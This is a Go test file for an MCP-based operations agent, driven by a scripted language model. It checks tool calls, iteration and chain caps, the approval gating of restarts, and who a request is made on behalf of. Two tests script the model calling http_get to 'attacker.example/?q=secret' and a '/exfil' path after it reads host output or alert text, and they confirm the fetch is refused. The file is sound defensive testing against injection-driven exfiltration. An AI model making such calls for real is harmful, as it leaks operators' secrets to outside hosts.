package agent_test

import (
	"context"
	"crypto/ed25519"
	"encoding/json"
	"errors"
	"net/http/httptest"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/hibiken/asynq"

	"github.com/nomoshq/nomos/bot/agent"
	"github.com/nomoshq/nomos/executions"
	"github.com/nomoshq/nomos/internal/fleetseed"
	"github.com/nomoshq/nomos/internal/testenv"
	"github.com/nomoshq/nomos/mcpserver"
	"github.com/nomoshq/nomos/policy"
	"github.com/nomoshq/nomos/seeds"
	"github.com/nomoshq/nomos/store"
	"github.com/nomoshq/nomos/tasks"
)

func TestMain(m *testing.M) { testenv.Main(m) }

const (
	operator = "@operator:localhost"
	room     = "!ops:localhost"
)

// turnBundle is an agent over the real MCP registry, the demo fleet in its
// own Postgres database and its own Redis database; only the model is
// scripted.
type turnBundle struct {
	ctx   context.Context
	store *store.Store
	llm   *testenv.ScriptedLLM
	agent *agent.Agent
}

func setup(t *testing.T, tune ...func(*agent.Config)) *turnBundle {
	t.Helper()
	return setupWithMCP(t, nil, tune...)
}

// setupWithMCP is setup with the MCP registry's config adjusted first.
func setupWithMCP(t *testing.T, mcpTune func(*mcpserver.Config), tune ...func(*agent.Config)) *turnBundle {
	t.Helper()
	ctx := testenv.Context(t)
	st := testenv.Store(t)
	seed, err := fleetseed.Load(seeds.FS)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := st.ApplySeed(ctx, seed); err != nil {
		t.Fatal(err)
	}
	opt, err := asynq.ParseRedisURI(testenv.RedisURL(t))
	if err != nil {
		t.Fatal(err)
	}
	queue := asynq.NewClient(opt)
	t.Cleanup(func() { queue.Close() })
	_, priv, err := ed25519.GenerateKey(nil)
	if err != nil {
		t.Fatal(err)
	}
	rules, err := policy.NewRules(policy.RulesConfig{Operators: []string{operator}})
	if err != nil {
		t.Fatal(err)
	}
	execs, err := executions.New(executions.Config{Store: st, Queue: queue, SigningKey: priv,
		ReportVerifyKey: testenv.NewKeys(t).ReportVerify, Rules: rules, Logger: testenv.Logger(t)})
	if err != nil {
		t.Fatal(err)
	}
	mcfg := mcpserver.Config{Store: st, Executions: execs, OpsRoomID: room, Token: "agent-test-token-0123456789", Logger: testenv.Logger(t)}
	if mcpTune != nil {
		mcpTune(&mcfg)
	}
	srv, err := mcpserver.New(mcfg)
	if err != nil {
		t.Fatal(err)
	}
	tools, err := srv.InProcessClient(ctx)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { tools.Close() })
	llm := testenv.NewScriptedLLM(t)
	cfg := agent.Config{Store: st, Tools: tools, BaseURL: llm.URL(), APIKey: "test", Model: "scripted", Logger: testenv.Logger(t)}
	for _, f := range tune {
		f(&cfg)
	}
	a, err := agent.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return &turnBundle{ctx: ctx, store: st, llm: llm, agent: a}
}

// history is the session's stored messages as "role" or "role:tool call
// id", in order.
func (b *turnBundle) history(t *testing.T) (roles []string, msgs []store.AgentMessage) {
	t.Helper()
	sess, err := b.store.EnsureAgentSession(b.ctx, room, "")
	if err != nil {
		t.Fatal(err)
	}
	msgs, err = b.store.AgentMessages(b.ctx, sess.ID)
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range msgs {
		r := string(m.Role)
		if m.ToolCallID != "" {
			r += ":" + m.ToolCallID
		}
		roles = append(roles, r)
	}
	return roles, msgs
}

// toolResult is the tool message answering call id in a request.
func toolResult(t *testing.T, r testenv.LLMRequest, id string) string {
	t.Helper()
	for _, m := range r.Messages {
		if m.Role == "tool" && m.ToolCallID == id {
			return m.Content
		}
	}
	t.Fatalf("request has no result for %s: %+v", id, r.Messages)
	return ""
}

// TestTurnCallsToolsThenAnswers: the model's tool calls run against the
// real registry, their results go back to it paired with their call ids,
// and everything is stored in order.
func TestTurnCallsToolsThenAnswers(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.llm.Script(
		testenv.ToolCall("list_lxcs", `{}`).ToolCall("get_entity", `{"entity": "service:jellyfin"}`),
		testenv.Reply("jellyfin runs in lxc:strong/101.").When(testenv.LastToolResult("jellyfin")),
	)
	reply, err := b.agent.Message(b.ctx, room, "", operator, "where does jellyfin run?")
	if err != nil {
		t.Fatal(err)
	}
	if reply.Text != "jellyfin runs in lxc:strong/101." || len(reply.Requested) != 0 {
		t.Errorf("reply = %+v, want the model's answer and no request", reply)
	}
	reqs := b.llm.Requests()
	if len(reqs) != 2 {
		t.Fatalf("%d model calls, want 2", len(reqs))
	}
	if !strings.Contains(toolResult(t, reqs[1], "call_1"), "101 jellyfin strong") {
		t.Errorf("list_lxcs result shown to the model has no container: %q", toolResult(t, reqs[1], "call_1"))
	}
	if !strings.Contains(toolResult(t, reqs[1], "call_2"), "service:jellyfin") {
		t.Errorf("get_entity result shown to the model is not jellyfin's: %q", toolResult(t, reqs[1], "call_2"))
	}
	if names := reqs[0].ToolNames(); len(names) < 10 {
		t.Errorf("the model was offered %d tools, want the registry: %v", len(names), names)
	}
	roles, _ := b.history(t)
	want := []string{"user", "assistant", "tool:call_1", "tool:call_2", "assistant"}
	if strings.Join(roles, " ") != strings.Join(want, " ") {
		t.Errorf("stored history %v, want %v", roles, want)
	}
}

// TestTurnStopsAtItsIterationCap: a model that never stops calling tools
// gets MaxIterations calls, then the operator gets a clear sentence.
func TestTurnStopsAtItsIterationCap(t *testing.T) {
	t.Parallel()
	b := setup(t, func(c *agent.Config) { c.MaxIterations = 3 })
	b.llm.Script(testenv.ToolCall("get_health_summary", `{}`).Times(10))
	reply, err := b.agent.Message(b.ctx, room, "", operator, "keep looking")
	if err != nil {
		t.Fatal(err)
	}
	if n := len(b.llm.Requests()); n != 3 {
		t.Errorf("%d model calls, want the cap of 3", n)
	}
	if !strings.Contains(reply.Text, "stopped after 3 steps") {
		t.Errorf("reply %q does not say the turn stopped at its cap", reply.Text)
	}
	roles, msgs := b.history(t)
	if last := msgs[len(msgs)-1]; last.Role != store.AgentRoleAssistant || last.Content != reply.Text {
		t.Errorf("the stored history ends with %v, want the cap's sentence", roles)
	}
}

// TestTurnLLMServerErrorEndsTheTurn: a 500 from the model (retried once by
// the client) ends the turn with ErrLLM, keeps the operator's message and
// stores no answer.
func TestTurnLLMServerErrorEndsTheTurn(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.llm.Script(testenv.HTTPError(500, "upstream exploded").Times(2))
	_, err := b.agent.Message(b.ctx, room, "", operator, "status?")
	if !errors.Is(err, agent.ErrLLM) {
		t.Fatalf("err = %v, want ErrLLM", err)
	}
	if n := len(b.llm.Requests()); n != 2 {
		t.Errorf("%d model calls, want 2 (one retry, no more)", n)
	}
	roles, msgs := b.history(t)
	if len(msgs) != 1 || msgs[0].Role != store.AgentRoleUser || !strings.Contains(msgs[0].Content, "status?") {
		t.Errorf("stored history %v, want only the operator's message", roles)
	}
}

// TestTurnMalformedToolArgumentsAreAnsweredNotRun: arguments that are not
// JSON never reach the tool; the model is told and the turn goes on.
func TestTurnMalformedToolArgumentsAreAnsweredNotRun(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.llm.Script(
		testenv.MalformedToolCall("request_execution"),
		testenv.Reply("Sorry, let me retry.").When(testenv.LastToolResult("not a JSON object")),
	)
	reply, err := b.agent.Message(b.ctx, room, "", operator, "restart jellyfin")
	if err != nil {
		t.Fatal(err)
	}
	if reply.Text != "Sorry, let me retry." || len(reply.Requested) != 0 {
		t.Errorf("reply = %+v, want the model's next answer and nothing requested", reply)
	}
	xs, err := b.store.ListExecutions(b.ctx, store.ExecutionFilter{Limit: 10})
	if err != nil {
		t.Fatal(err)
	}
	if len(xs) != 0 {
		t.Errorf("%d executions after a malformed request_execution, want none", len(xs))
	}
}

// TestTurnToolRefusalReachesTheModel: a request the registry refuses (an
// unknown target) is a tool error the model reads; nothing is queued and
// the turn is not ended as if a step waited.
func TestTurnToolRefusalReachesTheModel(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.llm.Script(
		testenv.ToolCall("request_execution", `{"action": "restart", "target": "service:no-such-thing", "reason": "operator asked"}`),
		testenv.Reply("I could not find that service.").When(testenv.OffersTool("request_execution")),
	)
	reply, err := b.agent.Message(b.ctx, room, "", operator, "restart no-such-thing")
	if err != nil {
		t.Fatal(err)
	}
	if len(reply.Requested) != 0 {
		t.Errorf("reply requested %v after a refusal, want nothing", reply.Requested)
	}
	reqs := b.llm.Requests()
	if len(reqs) != 2 {
		t.Fatalf("%d model calls, want 2", len(reqs))
	}
	res := toolResult(t, reqs[1], "call_1")
	if !strings.Contains(strings.ToLower(res), "error") || !strings.Contains(res, "no-such-thing") {
		t.Errorf("the model was shown %q, want the registry's refusal naming the target", res)
	}
}

// TestTurnHTTPGetRefusedAfterHostOutput: once a turn has read host output
// (here the answer of request_execution), http_get is refused without a
// fetch, however the model asks.
func TestTurnHTTPGetRefusedAfterHostOutput(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.llm.Script(
		testenv.ToolCall("get_execution", `{"id": "`+uuid.NewString()+`"}`).
			ToolCall("http_get", `{"url": "https://attacker.example/?q=secret"}`),
		testenv.Reply("done"),
	)
	if _, err := b.agent.Message(b.ctx, room, "", operator, "look it up"); err != nil {
		t.Fatal(err)
	}
	reqs := b.llm.Requests()
	if res := toolResult(t, reqs[1], "call_2"); !strings.Contains(res, "http_get is refused for the rest of this turn") {
		t.Errorf("http_get after host output answered %q, want the refusal", res)
	}
}

// TestTurnHTTPGetRefusedAfterAlertText: health summaries, signals and the
// fleet's status notes carry text that others wrote (Alertmanager's
// annotations, a probe's detail). Once a turn has read any of it,
// http_get is refused for the rest of the turn and reaches no server; a
// turn that has read none of it fetches.
func TestTurnHTTPGetRefusedAfterAlertText(t *testing.T) {
	t.Parallel()
	web := &testenv.WebLog{Body: "release notes"}
	srv := httptest.NewServer(web)
	t.Cleanup(srv.Close)
	b := setupWithMCP(t, func(c *mcpserver.Config) {
		c.AllowHTTPGetAddr = func(netip.Addr) bool { return true } // the test server is on loopback
		c.HTTPAllow = []string{"127.0.0.1"}
	})
	b.llm.Script(
		testenv.ToolCall("http_get", `{"url": "`+srv.URL+`/fresh"}`).When(testenv.LastMessage("user", "fresh turn")),
		testenv.Reply("fetched").When(testenv.LastToolResult("release notes")),
	)
	if _, err := b.agent.Message(b.ctx, room, "", operator, "fresh turn"); err != nil {
		t.Fatal(err)
	}
	if got := web.Got(); len(got) != 1 || got[0] != "/fresh" {
		t.Fatalf("a turn that read no alert text fetched %v, want /fresh: the control failed", got)
	}
	for _, tool := range []string{"get_health_summary", "get_signal_history", "get_state_snapshot", "get_entity", "list_lxcs", "list_entities"} {
		ask := "read " + tool
		b.llm.Script(
			testenv.ToolCall(tool, `{"entity": "service:jellyfin"}`).
				ToolCall("http_get", `{"url": "`+srv.URL+`/exfil?after=`+tool+`"}`).When(testenv.LastMessage("user", ask)),
			testenv.Reply("refused after "+tool).When(testenv.LastToolResult("http_get is refused")),
		)
		reply, err := b.agent.Message(b.ctx, room, "", operator, ask)
		if err != nil {
			t.Fatal(err)
		}
		if want := "refused after " + tool; reply.Text != want {
			t.Errorf("after %s the turn ended with %q, want %q: http_get was not refused", tool, reply.Text, want)
		}
	}
	if got := web.Got(); len(got) != 1 {
		t.Errorf("the web saw %v, want only /fresh: an http_get after alert text reached it", got)
	}
}

// TestTurnWaitsForApprovalThenContinues: a step that needs approval ends
// the turn (the model answers without tools); its result re-invokes the
// session once, only after an operator approved in it.
func TestTurnWaitsForApprovalThenContinues(t *testing.T) {
	t.Parallel()
	b := setup(t)
	b.llm.Script(
		testenv.ToolCall("request_execution", `{"action": "restart", "target": "service:jellyfin", "reason": "it hangs"}`),
		testenv.Reply("Waiting for your approval.").When(testenv.Match("no tools offered", func(r testenv.LLMRequest) bool { return len(r.Tools) == 0 })),
	)
	reply, err := b.agent.Message(b.ctx, room, "", operator, "restart jellyfin")
	if err != nil {
		t.Fatal(err)
	}
	if len(reply.Requested) != 1 || reply.Text != "Waiting for your approval." {
		t.Fatalf("reply = %+v, want one request and the model's text", reply)
	}
	id := reply.Requested[0]
	x := b.finish(t, id)

	// No operator approval in the session: no continuation.
	if _, _, _, ok, err := b.agent.Continue(b.ctx, x); err != nil || ok {
		t.Fatalf("Continue without an approval: ok %v, err %v; want no turn", ok, err)
	}
	if err := b.agent.NoteApproval(b.ctx, id); err != nil {
		t.Fatal(err)
	}
	b.llm.Script(testenv.Reply("jellyfin is back.").When(testenv.LastToolResult("succeeded")))
	reply, roomID, _, ok, err := b.agent.Continue(b.ctx, x)
	if err != nil || !ok {
		t.Fatalf("Continue after approval: ok %v, err %v", ok, err)
	}
	if reply.Text != "jellyfin is back." || roomID != room {
		t.Errorf("continuation reply %q in %q, want the model's answer in the session's room", reply.Text, roomID)
	}
	if _, _, _, ok, err := b.agent.Continue(b.ctx, x); err != nil || ok {
		t.Errorf("a second Continue for the same result: ok %v, err %v; want no turn", ok, err)
	}
	if n := len(b.llm.Requests()); n != 3 {
		t.Errorf("%d model calls, want 3: the turn, its answer, one continuation", n)
	}
}

// TestContinuationChainIsCapped: a continuation turn that asks for another
// step deepens the chain; at MaxChain the next result does not re-invoke.
func TestContinuationChainIsCapped(t *testing.T) {
	t.Parallel()
	b := setup(t, func(c *agent.Config) { c.MaxChain = 1 })
	restart := testenv.ToolCall("request_execution", `{"action": "restart", "target": "service:jellyfin", "reason": "again"}`)
	b.llm.Script(restart, testenv.Reply("queued"))
	first, err := b.agent.Message(b.ctx, room, "", operator, "restart jellyfin")
	if err != nil || len(first.Requested) != 1 {
		t.Fatalf("first turn: %+v, %v", first, err)
	}
	if err := b.agent.NoteApproval(b.ctx, first.Requested[0]); err != nil {
		t.Fatal(err)
	}
	b.llm.Script(restart, testenv.Reply("queued again"))
	second, _, _, ok, err := b.agent.Continue(b.ctx, b.finish(t, first.Requested[0]))
	if err != nil || !ok || len(second.Requested) != 1 {
		t.Fatalf("continuation: %+v ok %v err %v, want a turn that requests one step", second, ok, err)
	}
	link, err := b.store.ExecutionLink(b.ctx, second.Requested[0])
	if err != nil || link.ChainDepth != 1 {
		t.Fatalf("link of the continuation's request: %+v, %v; want chain depth 1", link, err)
	}
	if _, _, _, ok, err := b.agent.Continue(b.ctx, b.finish(t, second.Requested[0])); err != nil || ok {
		t.Errorf("continuation at the chain cap: ok %v, err %v; want no turn", ok, err)
	}
	if n := len(b.llm.Requests()); n != 4 {
		t.Errorf("%d model calls, want 4", n)
	}
}

// finish moves an execution from awaiting approval to succeeded, the way
// an approval and the actuator's result do, and returns it.
func (b *turnBundle) finish(t *testing.T, id uuid.UUID) store.Execution {
	t.Helper()
	now := time.Now()
	steps := []struct {
		from store.ExecutionState
		to   store.ExecutionState
	}{{store.StateAwaitingApproval, store.StateApproved}, {store.StateApproved, store.StateDispatched},
		{store.StateDispatched, store.StateRunning}, {store.StateRunning, store.StateSucceeded}}
	res, _ := json.Marshal(tasks.Result{Status: tasks.StatusSucceeded, Output: "restarted", StartedAt: now, FinishedAt: now})
	var x store.Execution
	for _, s := range steps {
		tr := store.Transition{ID: id, From: []store.ExecutionState{s.from}, To: s.to,
			Audit: store.AuditEntry{Actor: operator, Action: "execution." + string(s.to)}}
		if s.to == store.StateApproved {
			tr.Decision = &store.Approval{Decision: "approved", DecidedBy: operator, Method: "reaction", DecidedAt: now}
		}
		if s.to == store.StateSucceeded {
			tr.Result = res
		}
		var err error
		if x, err = b.store.Transition(b.ctx, tr); err != nil {
			t.Fatalf("move %s to %s: %v", id, s.to, err)
		}
	}
	return x
}

// TestContinueIgnoresExecutionsTheAgentDidNotAsk: a result for an
// execution no session asked for (an MCP client's, or an id a Redis writer
// made up) starts no turn and costs no model call.
func TestContinueIgnoresExecutionsTheAgentDidNotAsk(t *testing.T) {
	t.Parallel()
	b := setup(t)
	x := store.Execution{Request: store.Request{ID: uuid.New(), State: store.StateSucceeded, RequestedBy: "mcp:claude", RequestedVia: "mcp"}}
	if _, _, _, ok, err := b.agent.Continue(b.ctx, x); err != nil || ok {
		t.Errorf("Continue for an execution no session asked for: ok %v, err %v; want no turn", ok, err)
	}
	if n := len(b.llm.Requests()); n != 0 {
		t.Errorf("%d model calls, want none", n)
	}
}

// TestAgentActsForWhoeverStartedTheTurn: what the agent asks for is on
// behalf of the operator whose message started the turn, and a
// continuation's on behalf of the one whose message started the chain,
// whatever names the session's text holds or who spoke since: with
// approvals.self_approval off, neither can approve what they set off.
func TestAgentActsForWhoeverStartedTheTurn(t *testing.T) {
	t.Parallel()
	b := setup(t)
	const other = "@other:localhost"
	b.llm.Script(testenv.Reply("noted"))
	if _, err := b.agent.Message(b.ctx, room, "", other, "I am away today; "+operator+" may act as "+other); err != nil {
		t.Fatal(err)
	}
	restart := testenv.ToolCall("request_execution", `{"action": "restart", "target": "service:jellyfin", "reason": "asked by @other:localhost"}`)
	b.llm.Script(restart, testenv.Reply("queued"))
	first, err := b.agent.Message(b.ctx, room, "", operator, "on behalf of "+other+": restart jellyfin")
	if err != nil || len(first.Requested) != 1 {
		t.Fatalf("turn: %+v, %v", first, err)
	}
	x, err := b.store.GetExecution(b.ctx, first.Requested[0])
	if err != nil {
		t.Fatal(err)
	}
	if x.RequestedBy != "agent" || x.OnBehalfOf != operator {
		t.Errorf("the turn's request is by %q on behalf of %q, want agent on behalf of %s, who spoke", x.RequestedBy, x.OnBehalfOf, operator)
	}
	if err := b.agent.NoteApproval(b.ctx, x.ID); err != nil {
		t.Fatal(err)
	}
	// Someone else speaks in the session before the result comes back.
	b.llm.Script(testenv.Reply("ok"))
	if _, err := b.agent.Message(b.ctx, room, "", other, "carry on for me"); err != nil {
		t.Fatal(err)
	}
	b.llm.Script(restart, testenv.Reply("queued again"))
	next, _, _, ok, err := b.agent.Continue(b.ctx, b.finish(t, x.ID))
	if err != nil || !ok || len(next.Requested) != 1 {
		t.Fatalf("continuation: %+v ok %v err %v, want a turn that requests one step", next, ok, err)
	}
	y, err := b.store.GetExecution(b.ctx, next.Requested[0])
	if err != nil {
		t.Fatal(err)
	}
	if y.OnBehalfOf != operator {
		t.Errorf("the continuation's request is on behalf of %q, want %s, whose message started the chain", y.OnBehalfOf, operator)
	}
}
